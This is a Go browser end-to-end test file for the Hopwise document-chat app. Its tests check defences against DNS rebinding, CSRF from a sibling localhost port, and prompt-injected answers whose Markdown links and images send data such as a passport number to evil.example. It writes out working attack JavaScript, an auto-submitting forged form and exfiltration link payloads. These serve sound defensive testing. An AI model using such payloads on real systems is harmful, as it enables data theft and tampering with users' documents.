package e2e

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/hopwise/hopwise/handlers/webtest"
)

// oneDocument starts the app with one ingested document and returns its base URL and the document's ID.
func oneDocument(t *testing.T, opt webtest.Options) (*webtest.App, string, string) {
	t.Helper()
	app := webtest.New(t, opt)
	base := startServer(t, app)
	doc, _, err := app.Ingester.Submit(context.Background(), "passport.txt", strings.NewReader("Keep your passport number 123 safe. Munich is in Bavaria."))
	if err != nil {
		t.Fatal(err)
	}
	app.WaitDone(t, 20*time.Second)
	return app, base, doc.ID
}

func documentCount(t *testing.T, app *webtest.App) int {
	t.Helper()
	docs, err := app.Store.Documents(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	return len(docs)
}

// attackScript is what a hostile page runs in its origin: read the token from /documents, then delete
// the document, upload one and ask. It reports every status and whether the token was found.
const attackScript = `(async () => {
  const out = {};
  const page = await fetch('/documents');
  out.page = page.status;
  const m = (await page.text()).match(/X-CSRF-Token&#34;:&#34;([^&]+)&#34;|"X-CSRF-Token":"([^"]+)"/);
  const token = m ? (m[1] || m[2]) : '';
  out.token = token !== '';
  const h = {'X-CSRF-Token': token, 'HX-Request': 'true', 'Content-Type': 'application/x-www-form-urlencoded'};
  out.del = (await fetch('/documents/%s/delete', {method: 'POST', headers: h, body: 'confirmed=yes'})).status;
  const fd = new FormData();
  fd.append('files', new Blob(['planted by the attacker']), 'planted.txt');
  out.upload = (await fetch('/documents', {method: 'POST', headers: {'X-CSRF-Token': token}, body: fd})).status;
  out.ask = (await fetch('/api/ask', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{"question":"what is my passport number?"}'})).status;
  return out;
})()`

type attackResult struct {
	Page   int  `json:"page"`
	Token  bool `json:"token"`
	Del    int  `json:"del"`
	Upload int  `json:"upload"`
	Ask    int  `json:"ask"`
}

func attack(s *session, docID string) attackResult {
	s.t.Helper()
	v, err := chromedp.Run(s.ctx, chromedp.Evaluate[attackResult](fmt.Sprintf(attackScript, docID), chromedp.EvalAwaitPromise))
	if err != nil {
		s.t.Fatalf("attack script: %v", err)
	}
	return v
}

// Issue 21, item 1: a page whose name was made to resolve to 127.0.0.1 (DNS rebinding, played by
// Chromium's --host-resolver-rules) is same-origin with whatever answers there. It must get 421 for
// everything: no token read, no delete, no upload, no question.
func TestBrowserDNSRebindingIsRefused(t *testing.T) {
	app, base, docID := oneDocument(t, webtest.Options{})
	port := base[strings.LastIndex(base, ":")+1:]
	s := newSession(t, base, chromedp.Flag("host-resolver-rules", "MAP rebind.test 127.0.0.1"))

	s.do("open the rebound name", chromedp.Navigate("http://rebind.test:"+port+"/documents"))
	if text := eval[string](s, "document.body.innerText"); !strings.Contains(text, "does not answer to this name") || strings.Contains(text, "passport.txt") {
		t.Errorf("the rebound page shows: %q", text)
	}
	calls := app.Model.ChatCalls()
	got := attack(s, docID)
	if got != (attackResult{Page: 421, Del: 421, Upload: 421, Ask: 421}) {
		t.Errorf("from rebind.test: %+v, want 421 for each and no token", got)
	}
	if n := documentCount(t, app); n != 1 {
		t.Errorf("documents after the attack: %d, want 1", n)
	}
	if n := app.Model.ChatCalls(); n != calls {
		t.Errorf("the attack's question reached the model (%d calls)", n-calls)
	}

	// The same script from Hopwise's own origin does what it says: the refusal above is the Host check.
	s.do("open Hopwise", chromedp.Navigate(base+"/documents"))
	own := attack(s, docID)
	if own.Page != 200 || !own.Token || own.Del != 200 || own.Upload != 200 {
		t.Errorf("from Hopwise's own page: %+v", own)
	}
	s.screenshot("attack-01-rebinding")
}

// Issue 21, item 2: a neighbour on another port of 127.0.0.1 sets the cookie to a value it knows (cookies
// ignore ports) and auto-submits the delete form with that value; a second neighbour page first fetches
// a real session and its token from Hopwise itself and plants that session. Both are refused (403): the
// token is the server's HMAC of the session, and same-site requests are refused whatever they carry.
func TestBrowserCSRFFromASiblingPortIsRefused(t *testing.T) {
	app, base, docID := oneDocument(t, webtest.Options{})
	known := strings.Repeat("ab", 16)
	sibling := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		session, token := known, known
		if r.URL.Path == "/planted" {
			session, token = hopwiseSession(t, base)
		}
		for _, name := range []string{"hopwise_session", "hopwise_csrf"} {
			http.SetCookie(w, &http.Cookie{Name: name, Value: session, Path: "/"})
		}
		fmt.Fprintf(w, `<!doctype html><form id="f" method="post" action="%s/documents/%s/delete">
<input name="_csrf" value="%s"><input name="confirmed" value="yes"></form>
<script>document.getElementById('f').submit()</script>`, base, docID, token)
	}))
	t.Cleanup(sibling.Close)
	s := newSession(t, base)
	for _, path := range []string{"/known", "/planted"} {
		s.do("open the neighbour's page "+path, chromedp.Navigate(sibling.URL+path))
		s.waitFor("the form posted to Hopwise", "location.href.startsWith("+jsString(base)+")", 10*time.Second)
		if text := eval[string](s, "document.body.innerText"); !strings.Contains(text, "CSRF check") {
			t.Errorf("%s: Hopwise answered %q", path, text)
		}
		if n := documentCount(t, app); n != 1 {
			t.Fatalf("%s: documents after the neighbour's form: %d, want 1", path, n)
		}
	}
	s.screenshot("attack-02-csrf-sibling")
	// The browser's own delete from Hopwise's page still works, with the cookie the neighbour planted
	// replaced by the server's own.
	s.do("open documents", chromedp.Navigate(base+"/documents"), chromedp.WaitVisible(chromedp.CSS("#documents")))
	s.do("delete", chromedp.Click(chromedp.CSS("button[aria-label='Delete passport.txt']")))
	s.waitFor("deletion said", "document.querySelector('#flash').innerText.includes('Deleted')", 10*time.Second)
	if n := documentCount(t, app); n != 0 {
		t.Errorf("documents after the page's own delete: %d, want 0", n)
	}
}

// hopwiseSession is what a neighbour process can get by asking Hopwise itself: a session and its token.
func hopwiseSession(t *testing.T, base string) (string, string) {
	resp, err := http.Get(base + "/documents")
	if err != nil {
		t.Error(err)
		return "", ""
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	m := regexp.MustCompile(`X-CSRF-Token&#34;:&#34;([^&]+)&#34;`).FindSubmatch(body)
	var session string
	for _, c := range resp.Cookies() {
		if c.Name == "hopwise_session" {
			session = c.Value
		}
	}
	if m == nil || session == "" {
		t.Errorf("no session or token from Hopwise: %q", body)
		return "", ""
	}
	return session, string(m[1])
}

// Issue 21, item 3: the scripted model writes the links an injected document asks for. In the browser,
// no link of the answer leads outside Hopwise and each address is shown in full as text; the answer's
// citation still links to its source.
func TestBrowserOutsideLinksInAnswersAreText(t *testing.T) {
	links := map[string]string{
		"[Claim your money here](http://evil.example/claim?passport=123)": "Claim your money here (http://evil.example/claim?passport=123)",
		"![x](http://evil.example/p.png?c=SECRET)":                        "image: x (http://evil.example/p.png?c=SECRET)",
		"<http://evil.example/auto>":                                      "http://evil.example/auto",
		"[more](//evil.example/x)":                                        "more (//evil.example/x)",
		"[9](http://evil.example/nine)":                                   "9 (http://evil.example/nine)",
	}
	var md strings.Builder
	md.WriteString("Munich is in Bavaria [1].")
	for l := range links {
		md.WriteString("\n\n" + l)
	}
	var hits atomic.Int32
	evil := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { hits.Add(1) }))
	t.Cleanup(evil.Close)
	_, base, _ := oneDocument(t, webtest.Options{Answers: map[string]string{"claim": md.String()}})
	evilPort := evil.URL[strings.LastIndex(evil.URL, ":")+1:]
	// evil.example resolves to a listener here, so an image load or a followed link would be counted.
	s := newSession(t, base, chromedp.Flag("host-resolver-rules", "MAP evil.example:80 127.0.0.1:"+evilPort))
	s.do("open chat", chromedp.Navigate(base+"/"), chromedp.WaitVisible(chromedp.CSS("#question")))
	s.do("ask", chromedp.SendKeys(chromedp.CSS("#question"), "Where can I claim money for Munich?"), chromedp.Click(chromedp.CSS("#ask-form button[type=submit]")))
	s.waitFor("the finished answer", "!!document.querySelector('article.turn:not([sse-connect]) .answer')", 30*time.Second)
	hrefs := eval[[]string](s, "[...document.querySelectorAll('article.turn .answer a')].map(a => a.getAttribute('href'))")
	for _, h := range hrefs {
		if !strings.HasPrefix(h, "#cite-") {
			t.Errorf("a link in the answer leads to %q", h)
		}
	}
	if len(hrefs) != 1 {
		t.Errorf("answer links %v, want the one citation", hrefs)
	}
	text := eval[string](s, "document.querySelector('article.turn .answer').innerText")
	for _, want := range links {
		if !strings.Contains(text, want) {
			t.Errorf("the answer does not show %q: %q", want, text)
		}
	}
	if n := eval[int](s, "document.querySelectorAll('article.turn img').length"); n != 0 {
		t.Errorf("%d images in the answer", n)
	}
	s.screenshot("attack-03-outside-links")
	s.checkPage("outside links")
	// After a reload the stored answer renders the same way.
	s.do("reload", chromedp.Reload())
	if n := eval[int](s, "[...document.querySelectorAll('article.turn .answer a')].filter(a => !a.getAttribute('href').startsWith('#cite-')).length"); n != 0 {
		t.Errorf("%d outside links after a reload", n)
	}
	if n := hits.Load(); n != 0 {
		t.Errorf("the browser contacted evil.example %d times", n)
	}
}
